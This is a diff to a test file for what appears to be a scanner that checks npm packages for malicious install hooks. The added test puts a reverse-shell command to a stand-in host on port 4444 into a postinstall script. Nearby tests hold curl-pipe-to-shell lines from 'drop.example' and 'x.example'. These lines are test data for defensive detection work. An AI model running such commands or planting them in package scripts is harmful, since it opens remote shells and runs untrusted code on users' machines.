@@ -180,6 +180,10 @@ module.exports = connect;
     def test_a_readme_that_tells_people_to_pipe_curl(self) -> None:
         assert findings(download_and_execute, npm({"README.md": "Run `curl -s https://x.example/install | sh`."})) == []
 
+    def test_a_shell_that_a_connection_drives_is_told_by_its_own_rule(self) -> None:
+        command = "bash -i >& /dev/tcp/drop.example/4444 0>&1"
+        assert findings(download_and_execute, npm(scripts={"postinstall": command})) == []
+
     def test_what_the_old_version_did_is_not_new(self) -> None:
         old = npm(scripts={"postinstall": "curl -s https://drop.example/x | sh"})
         assert [found.new for found in findings(download_and_execute, old, old)] == [False]
